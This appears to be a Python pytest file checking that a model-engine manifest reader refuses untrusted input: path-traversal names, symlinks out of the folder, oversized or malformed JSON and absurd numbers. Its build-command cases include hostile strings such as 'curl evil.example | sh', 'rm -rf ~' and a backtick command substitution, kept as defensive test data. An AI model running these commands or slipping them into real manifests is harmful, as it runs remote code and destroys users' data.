"""Manifests and engine sets from strangers: nothing outside the folder is read, and what makes no
sense costs one line."""

import json
from pathlib import Path

import pytest
from support.error_lines import one_line
from support.manifests import manifest

from vicort.runtime.engines.embedding import Embedding
from vicort.runtime.errors import EngineError
from vicort.runtime.manifest import (
    ALSO_READ,
    EmbeddingSpec,
    GraphSpec,
    check_all_listed,
    fingerprint,
    read_manifest,
)


def refused(folder: Path, content: object) -> str:
    (folder / "manifest.json").write_text(
        content if isinstance(content, str) else json.dumps(content)
    )
    with pytest.raises(EngineError) as caught:
        read_manifest(folder)
    return one_line(caught.value)


def test_a_good_manifest_is_read(tmp_path: Path) -> None:
    (tmp_path / "manifest.json").write_text(json.dumps(manifest()))
    assert read_manifest(tmp_path).build_command == "vicort-build tiny"


@pytest.mark.parametrize(
    "name", ["../secret", "/etc/passwd", "a/../../secret", "..", ".", "", "a\\..\\b", "a\nb", "\0"]
)
def test_a_manifest_names_only_files_of_its_folder(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "set"
    folder.mkdir()
    (tmp_path / "secret").write_text("x")
    good = manifest()
    assert "is not a file name" in refused(
        folder, manifest(files={name: {"bytes": 1, "fingerprint": "0"}})
    )
    assert "is not a file name" in refused(
        folder, manifest(embedding=good["embedding"] | {"file": name})
    )
    assert "is not a file name" in refused(
        folder, manifest(graphs={"llm": good["graphs"]["llm"] | {"file": name}})
    )
    assert "is not a file name" in refused(
        folder, manifest(graphs={"llm": good["graphs"]["llm"] | {"refit_from": name}})
    )


def test_a_link_out_of_the_folder_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("x")
    folder = tmp_path / "set"
    folder.mkdir()
    (folder / "a").symlink_to(tmp_path / "secret")
    assert "is a link to a file outside the folder" in refused(
        folder, manifest(files={"a": {"bytes": 1, "fingerprint": "0"}})
    )


@pytest.mark.parametrize(
    "name", ["llm.onnx", "embedding.bin", "tokenizer.json", "chat_template.jinja", "parts/a"]
)
@pytest.mark.parametrize("target", ["secret", "", "loop"])
def test_no_link_of_a_set_leads_out_of_it(tmp_path: Path, name: str, target: str) -> None:
    """Whether its manifest lists the file or not."""
    (tmp_path / "secret").write_text("x")
    folder = tmp_path / "set"
    (folder / name).parent.mkdir(parents=True)
    (folder / name).symlink_to(folder / name if target == "loop" else tmp_path / target)
    assert "is a link to a file outside the folder" in refused(folder, manifest())


def test_links_within_a_set_are_followed(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("x")
    (tmp_path / "b").symlink_to("a")
    (tmp_path / "manifest.json").write_text(
        json.dumps(manifest(files={"b": fingerprint(tmp_path / "a").model_dump()}))
    )
    assert list(read_manifest(tmp_path).files) == ["b"]


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "vicort-build tiny; rm -rf ~",
        "vicort-build `id`",
        "vicort-build a\nb",
        7,
        None,
    ],
)
def test_a_manifest_does_not_tell_the_user_what_to_type(tmp_path: Path, command: object) -> None:
    line = refused(tmp_path, manifest(build_command=command, schema_version=99))
    assert line.endswith(f"rebuild with `vicort-build MODEL --out {tmp_path}`")


@pytest.mark.parametrize(
    "content",
    [
        "[" * 100_000,
        '{"a":' * 100_000,
        '{"schema_version": ' + "9" * 5_000 + "}",
        json.dumps(manifest(schema_version=[[[]]] * 10_000)),
        json.dumps(manifest() | {"x" * 100_000: 1}),
        json.dumps(manifest()).replace('"layers": 8', '"layers": 1e308'),
        json.dumps(manifest()).replace('"page_tokens": 8', '"page_tokens": 0'),
        json.dumps(manifest()).replace('"vocabulary": 8', '"vocabulary": 9999999999999'),
        json.dumps(manifest()).replace('"fps": 8', '"fps": NaN'),
        json.dumps(manifest()).replace('"rows": 8', '"rows": -1'),
    ],
    ids=lambda content: content[:12],
)
def test_a_manifest_of_nonsense(tmp_path: Path, content: str) -> None:
    refused(tmp_path, content)


def numbers_of(value: object, path: tuple = ()) -> list[tuple]:
    """The places of all numbers in a manifest."""
    if isinstance(value, dict):
        return [found for key in value for found in numbers_of(value[key], (*path, key))]
    if isinstance(value, list):
        return [found for i, item in enumerate(value) for found in numbers_of(item, (*path, i))]
    return [path] if isinstance(value, int) else []


def full_manifest() -> dict:
    """One with a number in each place that has one."""
    found = manifest(files={"a": {"bytes": 8, "fingerprint": "0"}})
    graph = found["graphs"]["llm"]
    graph |= {"attention_layers": 8, "plugin_layers": 8, "layer_types": {"a": 8}}
    graph["dimensions"] = {"rows": {"min": 8, "opt": 8, "max": 8}}
    graph["inputs"] = [{"name": "t", "dtype": "int32", "shape": [8, "rows"]}]
    return json.loads(json.dumps(found))


@pytest.mark.parametrize("place", numbers_of(full_manifest()), ids=str)
def test_no_number_of_a_manifest_is_odd(tmp_path: Path, place: tuple) -> None:
    values = ["-1", "1e400", "NaN", "-Infinity", "true", '"8"', "[8]", "null", "9" * 5_000]
    values += ["9" * 400, "1" + "0" * 18]
    for value in values:
        changed = full_manifest()
        part = changed
        for key in place[:-1]:
            part = part[key]
        part[place[-1]] = "HERE"
        if place[-2:] == ("shape", 0) and value == '"8"':  # the name of a dimension
            continue
        if place == ("model", "fixed_size") and value == "null":
            continue
        refused(tmp_path, json.dumps(changed).replace('"HERE"', value))


@pytest.mark.parametrize(
    "changes",
    [
        {"chunk_frames": 2**20, "max_pixels": 2**24, "fixed_size": [2**12, 2**12]},
        {"layers": 2**24, "kv_heads": 2**24},
        {"page_tokens": 2**24, "head_dim": 2**12, "layers": 64},
        {"vocabulary": 2**24, "width": 2**24},
        {"max_rows": 2**24, "query_heads": 2**12},
        {"max_position": 2**24, "head_dim": 2**24},
    ],
    ids=str,
)
def test_products_of_a_manifests_numbers_are_bounded(tmp_path: Path, changes: dict) -> None:
    good = manifest()
    line = refused(tmp_path, manifest(model=good["model"] | changes))
    assert "at most 68719476736 is read" in line


def test_a_key_comes_once_in_a_manifest(tmp_path: Path) -> None:
    text = json.dumps(manifest()).replace('"layers": 8', '"layers": 8, "layers": 9')
    assert "'layers' comes twice" in refused(tmp_path, text)


def test_dimensions_of_a_manifest_rise(tmp_path: Path) -> None:
    good = manifest()
    odd = good["graphs"]["llm"] | {"dimensions": {"rows": {"min": 3, "opt": 2, "max": 5}}}
    assert "min <= opt <= max" in refused(tmp_path, manifest(graphs={"llm": odd}))


@pytest.mark.parametrize("name", ALSO_READ)
def test_what_is_read_of_a_set_is_listed(tmp_path: Path, name: str) -> None:
    """A file that its manifest does not list has no hash to compare with."""
    for file in ("llm.onnx", "embedding.bin", name):
        (tmp_path / file).write_bytes(b"x")
    listed = {
        file: fingerprint(tmp_path / file).model_dump() for file in ("llm.onnx", "embedding.bin")
    }
    (tmp_path / "manifest.json").write_text(json.dumps(manifest(files=listed)))
    found = read_manifest(tmp_path)
    with pytest.raises(EngineError, match=f"lists no '{name}'") as caught:
        check_all_listed(tmp_path, found)
    one_line(caught.value)
    (tmp_path / name).unlink()
    (tmp_path / "chat_template.jinja").write_text("copied by the user")
    check_all_listed(tmp_path, found)


def test_a_manifest_of_a_gigabyte_is_not_read(tmp_path: Path) -> None:
    with (tmp_path / "manifest.json").open("wb") as file:
        file.truncate(1 << 30)
    with pytest.raises(EngineError, match="more than 16777216 bytes"):
        read_manifest(tmp_path)


@pytest.mark.parametrize(
    "change",
    [
        {"offset": 10**9},
        {"rows": 2**40, "width": 2**40},
        {"dtype": "object"},
        {"dtype": "no type"},
        {"rows": 9},
    ],
)
def test_embeddings_that_are_not_there(tmp_path: Path, change: dict) -> None:
    (tmp_path / "e.bin").write_bytes(bytes(256))
    assert (
        len(
            Embedding(
                tmp_path, EmbeddingSpec(file="e.bin", offset=0, dtype="float32", rows=8, width=8)
            )
        )
        == 8
    )
    with pytest.raises(EngineError) as caught:
        Embedding(
            tmp_path,
            EmbeddingSpec(
                **{"file": "e.bin", "offset": 0, "dtype": "float32", "rows": 8, "width": 8} | change
            ),
        )
    one_line(caught.value)


def test_a_graph_may_lie_in_a_folder_of_the_set() -> None:
    assert (
        GraphSpec(file="llm/a..b.onnx", inputs=(), outputs=(), dimensions={}).file
        == "llm/a..b.onnx"
    )
